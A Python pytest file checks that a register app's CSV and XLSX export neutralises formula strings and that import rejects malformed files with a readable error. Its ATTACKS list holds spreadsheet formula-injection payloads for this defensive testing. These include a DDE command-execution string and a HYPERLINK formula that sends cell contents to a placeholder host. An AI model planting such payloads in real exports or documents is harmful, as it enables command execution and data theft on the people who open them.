"""Formula strings through export and back: never a live formula in the file, the same value
on import; files that are not what their name says are one sentence."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import pytest

from secrecy_desk.core import media
from secrecy_desk.core.errors import ValidationError
from secrecy_desk.modules.registers import Query, Registers
from secrecy_desk.modules.registers.io import export_file, import_file
from tests.fault.conftest import figure
from tests.support.data import drawing, gift

ATTACKS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://x.invalid/?"&A1,"点这里")',
    "=cmd|'/c calc'!A0",
    "'=1+1",
    "＝1+1",
]


def _descriptions(regs: Registers) -> list[str]:
    return sorted(str(e.values["description"]) for e in regs.page("gifts", Query(limit=None)))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_strings_through_export_and_back(
    regs: Registers, tmp_path: Path, suffix: str
) -> None:
    for text in ATTACKS:
        regs.add("gifts", gift(description=text))
    # A leading tab is trimmed on save — so "\t=1+1" is stored as "=1+1", still neutralised.
    regs.add("gifts", gift(description="\t=2+2"))
    stored = _descriptions(regs)
    path = export_file(regs, "gifts", tmp_path / f"out{suffix}")
    live = 0
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
        live = sum(1 for r in rows for c in r if c and c[0] in "=+-@\t\r\uff1d")
    else:
        with zipfile.ZipFile(path) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        live = sheet.count("<f>") + sheet.count("<f ")
    # And back: the import adds the same values again, character for character.
    report = import_file(regs, "gifts", path)
    assert len(report.numbers) == len(stored)
    back = _descriptions(regs)
    for text in stored:
        back.remove(text)
    changed = sum(x != y for x, y in zip(stored, back, strict=True))
    figure(
        f"formula strings through {suffix}",
        tried=len(ATTACKS) + 1,
        detected=len(ATTACKS) + 1 - live,
        lost=changed,
    )
    assert live == 0
    assert back == stored


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("random.xlsx", os.urandom(4096)),
        ("empty.xlsx", b""),
        ("text.xlsx", "保密,台账\n".encode()),
        ("zip.xlsx", b"PK\x05\x06" + b"\0" * 18),
        ("nul.csv", b"a,b\n\0\0\0,x\n"),
        ("random.csv", os.urandom(4096)),
    ],
)
def test_a_file_that_is_not_what_its_name_says(
    regs: Registers, tmp_path: Path, name: str, data: bytes
) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(ValidationError) as caught:  # a sentence, not BadZipFile or csv.Error
        import_file(regs, "drawings", path)
    text = caught.value.message("en")
    assert name in text or "imported" in text, text


def test_an_existing_export_is_not_overwritten_unless_asked(
    regs: Registers, tmp_path: Path
) -> None:
    regs.add("drawings", drawing())
    first = export_file(regs, "drawings", tmp_path / "out.csv")
    before = first.read_bytes()
    with pytest.raises(media.FileExists):
        export_file(regs, "drawings", tmp_path / "out.csv")
    assert first.read_bytes() == before
    assert export_file(regs, "drawings", tmp_path / "out.csv", overwrite=True) == first
